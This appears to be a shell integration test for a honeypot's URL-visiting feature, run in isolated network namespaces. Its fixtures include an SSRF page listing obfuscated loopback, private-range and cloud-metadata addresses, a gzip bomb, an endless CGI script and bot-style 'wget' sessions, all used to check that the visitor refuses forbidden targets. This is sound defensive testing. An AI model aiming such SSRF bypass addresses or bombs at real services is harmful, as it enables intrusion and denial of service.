#!/bin/bash
# Pages that attackers name are visited by rule, through real name and web servers in a network of their
# own; captures on the wire and on every device here show that nothing goes where it was not allowed.
. "$(dirname "$0")/lib.sh"
two_networks
for tool in nginx lighttpd dnsmasq busybox openssl curl; do
	[ -n "$(command -v $tool)" ] || skip "$tool is missing"
done
THERE="ip netns exec $OUTSIDE" HERE="ip netns exec $INSIDE"
NGINX=203.0.113.10 LIGHTTPD=203.0.113.11 SLOW=203.0.113.12 OPTED=203.0.113.66 DECOY=192.0.2.7
ip -n $INSIDE addr add 2600:1:ffff::1/64 dev wire nodad
ip -n $INSIDE addr add 203.0.113.250/32 dev lo # within the scope, and yet this machine
ip -n $OUTSIDE addr add 2600:1:ffff::2/64 dev wire nodad
ip -n $INSIDE -6 route add default via 2600:1:ffff::2
ip -n $OUTSIDE addr add 2600:1:1::10/128 dev lo nodad
ip -n $OUTSIDE addr add 10.0.0.5/32 dev lo
# Whatever would leave for these arrives there, so that it would be seen.
for theirs in 10.0.0.0/8 169.254.169.254/32 198.18.0.0/15; do ip -n $OUTSIDE route add local $theirs dev lo; done
SIX=2600:1:1::10

# Web servers.
W=$WORK/www
mkdir -p $W/nginx $W/lighttpd $W/cgi/cgi-bin $WORK/log.d
printf '#!/bin/sh\necho crawled\n' >$W/lighttpd/bins.sh
printf 'MZ not really a program, and large enough to be one\n' >$W/nginx/dropper.exe
echo '<meta http-equiv="Refresh" content="0; URL=&#104;ttp://pages.example/hop3.html">' >$W/nginx/hop2.html
echo '<script>var a=1;window.location.href = "http://other.example/final.html?x=1";</script>' >$W/nginx/hop3.html
cat >$W/lighttpd/final.html <<-EOT
	<!doctype html><title>Last &mdash; page</title><script>eval(unescape("%61"))</script>
	<iframe src="http://pages.example/frame.html" width=1 height=1></iframe>
	<a href="/bins.sh">x</a> <a href="http://pages.example/dropper.exe" download>y</a>
EOT
echo '<title>frame</title>' >$W/nginx/frame.html
{
	for to in http://192.0.2.7/own http://192.0.2.9:8080/own http://203.0.113.250/machine http://198.51.100.9/prober \
		http://127.0.0.1:$WEB_PORT/loop http://localhost:$WEB_PORT/loop http://2130706433:$WEB_PORT/x http://0x7f.1:$WEB_PORT/x \
		http://017700000001:$WEB_PORT/x http://10.0.0.5/private http://0x0a000005/hex http://012.0.0.5/octal http://167772165/decimal \
		http://169.254.169.254/latest/meta-data/ 'http://[::1]/x' 'http://[::ffff:10.0.0.5]/mapped' 'http://[fd76::5]/ula' \
		'http://[2002:a00:5::1]/sixtofour' 'http://[64:ff9b::a00:5]/nat64' http://private.example/name http://own.example/name \
		http://six-private.example/name http://$OPTED/opted http://198.18.0.1/outside http://$NGINX:22/ssh http://$NGINX:6379/redis \
		http://pages.example:25/mail http://11.7.0.5/scope; do
		echo "<iframe src='$to'></iframe>"
	done
	echo '<iframe src="http://both.example/frame.html"></iframe>'
} >$W/nginx/ssrf.html
head -c 300M /dev/zero | gzip -1 >$W/nginx/bomb
truncate -s 10G $W/nginx/huge.bin
printf '#!/bin/sh\nprintf "Content-Type: text/html\\r\\n\\r\\n<html>"; while echo x; do sleep 0.1; done\n' >$W/cgi/cgi-bin/endless
chmod 755 $W/cgi/cgi-bin/endless
openssl req -x509 -newkey rsa:2048 -nodes -keyout $WORK/key.pem -out $WORK/cert.pem -days 9 -subj /CN=attacker.example 2>/dev/null
cat >$WORK/nginx.conf <<EOT
daemon off; master_process off; pid $WORK/nginx.pid; error_log $WORK/log.d/nginx;
events { worker_connections 256; }
http {
	access_log $WORK/log.d/access; default_type application/octet-stream;
	types { text/html html; }
	client_body_temp_path $WORK/t1; proxy_temp_path $WORK/t2; fastcgi_temp_path $WORK/t3; uwsgi_temp_path $WORK/t4; scgi_temp_path $WORK/t5;
	server {
		listen $NGINX:80; listen $NGINX:22; listen $NGINX:25; listen $NGINX:6379; listen [$SIX]:80; listen $OPTED:80; listen 10.0.0.5:80; listen 169.254.169.254:80;
		listen $NGINX:443 ssl; ssl_certificate $WORK/cert.pem; ssl_certificate_key $WORK/key.pem;
		root $W/nginx;
		location = /start { return 302 /hop2.html; }
		location = /loop { return 302 /loop2; } location = /loop2 { return 302 /loop; }
		location = /to-own { return 301 http://192.0.2.7/redirected; }
		location ~ ^/far(?<n>\d*)$ { return 302 http://\$host/far1\$n; }
		location = /bomb { default_type text/html; add_header Content-Encoding gzip; }
	}
}
EOT
cat >$WORK/lighttpd.conf <<EOT
server.document-root = "$W/lighttpd"
server.bind = "$LIGHTTPD"
server.port = 80
mimetype.assign = (".html" => "text/html", ".sh" => "application/x-sh")
EOT
chmod -R a+rX "$WORK"
SERVERS=
$THERE nginx -c $WORK/nginx.conf & SERVERS="$SERVERS $!"
$THERE lighttpd -D -f $WORK/lighttpd.conf >$WORK/log.d/lighttpd 2>&1 & SERVERS="$SERVERS $!"
$THERE busybox httpd -f -p $SLOW:80 -h $W/cgi & SERVERS="$SERVERS $!"
names() { # the name that changes where it leads
	cat >$WORK/hosts <<-EOT
		$NGINX pages.example both.example
		10.0.0.5 both.example private.example
		192.0.2.7 own.example
		fd76::5 six-private.example
		$LIGHTTPD other.example
		$SLOW slow.example
		$SIX six.example
		$1 rebind.example
	EOT
}
names $NGINX
$THERE dnsmasq -k -p 53 -a 203.0.113.53 --bind-interfaces -h -R --local=/example/ --addn-hosts=$WORK/hosts --local-ttl=1 --log-queries \
	--log-facility=$WORK/log.d/dns --user=root --pid-file= & DNS=$!; SERVERS="$SERVERS $DNS"

mkdir "$WORK/out" && : >"$WORK/out/optout" && echo $OPTED >"$WORK/out/optout"
chmod 755 "$WORK/out"; chmod 644 "$WORK/out/optout"
loopback_config <<EOT
operator: {name: Test CSIRT, contact: abuse@example.org}
store: {linger: 50ms}
passive:
  workers: 1
  decoys: [{prefix: 192.0.2.0/25, personas: [router]}]
  services: {telnet: {ports: [23]}}
active:
  scope: [{prefix: 203.0.113.0/24, special: allow}, '2600:1::/32']
  addresses: [198.51.100.9]
  hold_out: 0
  opt_out: $WORK/out/optout
  visits: {again: true, per_host: 1000}
visit: {ways: [crawl], resolvers: [203.0.113.53], pages: 40, time: 6s, bytes_in: 8M, file: 2M, connect_timeout: 2s, page: 1M}
control: {silent_decoys: 0}
rules: [{on: command.sent, do: visit, delay: 0s, name: named}]
EOT
start_kansoku
capture_begin
$HERE tcpdump -i any -w "$WORK/any.pcap" -s 4096 -B 32768 -U --immediate-mode 'tcp[tcpflags] & tcp-syn != 0 or (ip6 and tcp) or udp' >"$WORK/tcpdump.any" 2>&1 & ANY=$!; SERVERS="$SERVERS $ANY"
for _ in $(seq 50); do grep -qs listening "$WORK/tcpdump.any" && break; sleep 0.1; done

# All that is known, an event a line: kind decision reason service state src, then NAME=VALUE each.
known() {
	query "SELECT kind, decision, reason, service, state, src, arrayStringConcat(arrayMap((f, v) -> concat('|', f, '=', v, '|'), field, value), '') \
		FROM log WHERE kind IN ('decision.made', 'page.visited', 'file.captured', 'probe.sent')" 2>/dev/null | tr '\t' ' ' >"$WORK/known"
}
stored() { # texts that stand in one event: within 20 s
	local lines
	for _ in $(seq 40); do
		lines=$(cat "$WORK/known" 2>/dev/null)
		for text in "$@"; do lines=$(grep -F -- "$text" <<<"$lines"); done
		[ -n "$lines" ] && return
		sleep 0.5
		known
	done
	tail -30 "$WORK/known"
	fail "not in the store: $*"
}
page() { stored "page.visited" "|page.url=$1|" "${@:2}"; }
name_pages() { # a bot's commands
	local commands=()
	for url in "$@"; do commands+=("wget $url"); done
	intrude_from 203.0.113.99 $DECOY root root "${commands[@]}" exit >"$WORK/session"
	grep -aqE '[#$>] ' "$WORK/session" || intrude_from 203.0.113.99 $DECOY admin admin "${commands[@]}" exit >"$WORK/session"
	grep -aqE '[#$>] ' "$WORK/session" || fail "the decoy let nobody in: $(cat "$WORK/session")"
}
name_pages http://pages.example/start https://$NGINX/dropper.exe http://six.example/frame.html http://pages.example/ssrf.html \
	http://pages.example/to-own http://pages.example/loop http://pages.example/far http://rebind.example/frame.html \
	http://pages.example/bomb http://pages.example/huge.bin http://slow.example/cgi-bin/endless http://0xcb00710a/frame.html \
	http://10.0.0.5/direct http://192.0.2.9/direct http://pages.example:25/port

# The whole tree of one page: by HTTP, meta and script, over two servers, with what it hands out.
page http://pages.example/start '|page.final=http://other.example/final.html?x=1|' '|status=200|'
stored file.captured '|file.url=http://other.example/bins.sh|' " $LIGHTTPD"
[ "$(query "SELECT count() FROM log WHERE kind = 'file.captured' AND file_sha256 = '$(sha256sum <$W/lighttpd/bins.sh | cut -d' ' -f1)'")" -ge 1 ] || fail "the file is another one"
stored file.captured '|file.url=http://pages.example/dropper.exe|'
stored file.captured "|file.url=https://$NGINX/dropper.exe|" " $NGINX"
page http://six.example/frame.html '|status=200|' " $SIX"
page "http://$NGINX/frame.html" '|status=200|'
page http://rebind.example/frame.html '|status=200|'
# What is too much ends, and says so.
page http://pages.example/bomb '|limit=page|'
page http://pages.example/huge.bin '|limit=file|'
page http://pages.example/far '|limit=redirects|'
page http://slow.example/cgi-bin/endless '|limit=time|'
page http://pages.example/loop
# What was refused at once, and what a page tried.
stored 'decision.made refused special visit' '|page.url=http://10.0.0.5/direct|'
stored 'decision.made refused special visit' '|page.url=http://192.0.2.9/direct|'
stored 'decision.made refused port visit' '|page.url=http://pages.example:25/port|'
page http://pages.example/ssrf.html 'led to an address that is not allowed'
stored 'decision.made refused special visit' " $DECOY "
stored 'decision.made refused special visit' ' 10.0.0.5 ' '|request.host=10.0.0.5|'
stored 'decision.made refused special visit' ' 2002:a00:5::1 '
stored 'decision.made refused scope visit' ' 11.7.0.5 '
stored 'decision.made refused opted-out visit' " $OPTED "
stored 'decision.made refused port visit' " $NGINX "
stored probe.sent " $LIGHTTPD " '|request.host=other.example|'

# Who opts out is left alone at once, also in the middle of a page; meanwhile a name leads elsewhere.
names 10.0.0.5; kill -HUP $DNS
name_pages http://slow.example/cgi-bin/endless
stands() { [ -n "$($HERE ss -Htn state established dst $SLOW)" ]; }
for _ in $(seq 20); do stands && break; sleep 0.1; done
stands || fail "the page without an end is not asked for"
echo $SLOW >>"$WORK/out/optout"; sleep 1.5
! stands || fail "the connection outlived the opt-out: $($HERE ss -tn dst $SLOW)"
sleep 1.5 # what was resolved before is kept for five seconds
name_pages http://rebind.example/again
page http://rebind.example/again ' unreachable '

# Where anything went; what is asked from port 40001 shows that the capture sees our own loopback.
$HERE curl -s -m 3 -o /dev/null --local-port 40001 http://127.0.0.1:$WEB_PORT/ || fail "the console does not answer"
capture_end
kill -INT $ANY; wait $ANY 2>/dev/null
capture_is_whole "$WORK/tcpdump.any"
syns='tcp.flags.syn == 1 and tcp.flags.ack == 0'
for to in $(tshark -n -r "$WORK/any.pcap" -Y "($syns) and (ip.src == 198.51.100.0/24 or ipv6.src == 2600:1:ffff::1)" -T fields -e ip.dst -e ipv6.dst -e tcp.dstport -E separator=, 2>/dev/null | sort -u); do
	case $to in
	$NGINX,,80 | $NGINX,,443 | $LIGHTTPD,,80 | $SLOW,,80 | ,$SIX,80) ;;
	*) fail "something went to $to" ;;
	esac
done
[ "$(tshark -n -r "$WORK/any.pcap" -Y "($syns) and tcp.dstport == $WEB_PORT" -T fields -e tcp.srcport 2>/dev/null | sort -u)" = 40001 ] ||
	fail "the console was asked, or the capture does not show it"
[ -z "$(tshark -n -r "$WORK/any.pcap" -Y "($syns) and ip.dst == 192.0.2.0/25 and ip.src != 203.0.113.99" 2>/dev/null)" ] || fail "a decoy of ours was visited"
[ -z "$(tshark -n -r "$WORK/wire.pcap" -Y "ip.dst == 10.0.0.0/8 or ip.dst == 169.254.0.0/16 or ip.dst == 198.18.0.0/15 or ip.dst == 11.7.0.0/16 or ip.dst == $OPTED" 2>/dev/null)" ] || fail "a forbidden address was sent something"
# The capture would have shown it.
capture_begin
$HERE curl -s -m 3 -o /dev/null http://10.0.0.5/frame.html || fail "the positive control does not answer"
capture_end
[ -n "$(tshark -n -r "$WORK/wire.pcap" -Y "ip.dst == 10.0.0.5" 2>/dev/null)" ] || fail "the capture does not show what passes"
[ "$(query "SELECT count() FROM log WHERE kind = 'page.visited' AND src = '10.0.0.5'")" = 0 ] || fail "a private address was visited"
echo "crawl: pages visited through real servers, nothing went to an address that was not allowed"
